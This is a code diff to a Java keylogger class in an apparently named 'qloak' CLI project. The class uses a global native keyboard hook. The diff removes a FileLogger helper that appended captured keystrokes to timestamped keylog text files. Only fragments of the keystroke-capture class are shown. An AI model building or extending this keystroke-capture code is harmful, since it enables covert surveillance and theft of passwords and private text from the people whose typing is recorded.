@@ -1,13 +1,9 @@
-
+package com.qloak.cli;
 
 import org.jnativehook.GlobalScreen;
 import org.jnativehook.keyboard.NativeKeyEvent;
 import org.jnativehook.keyboard.NativeKeyListener;
 
-import java.io.FileWriter;
-import java.io.IOException;
-import java.time.LocalDateTime;
-import java.time.format.DateTimeFormatter;
 import java.util.concurrent.Executors;
 import java.util.concurrent.ScheduledExecutorService;
 import java.util.concurrent.TimeUnit;
@@ -94,28 +90,3 @@ public class Keylogger implements NativeKeyListener {
         }
     }
 }
-
-class FileLogger {
-    private final String outputPath;
-
-    public FileLogger(String outputPath) {
-        this.outputPath = outputPath;
-    }
-
-    public void save(String data) {
-        if (data == null || data.isEmpty()) return;
-
-        String filename = generateFilename();
-        try (FileWriter writer = new FileWriter(filename, true)) {
-            writer.write(data);
-        } catch (IOException e) {
-            e.printStackTrace();
-        }
-    }
-
-    private String generateFilename() {
-        LocalDateTime now = LocalDateTime.now();
-        DateTimeFormatter formatter = DateTimeFormatter.ofPattern("yyyy-MM-dd_HH-mm-ss");
-        return outputPath + "keylog_" + now.format(formatter) + ".txt";
-    }
-}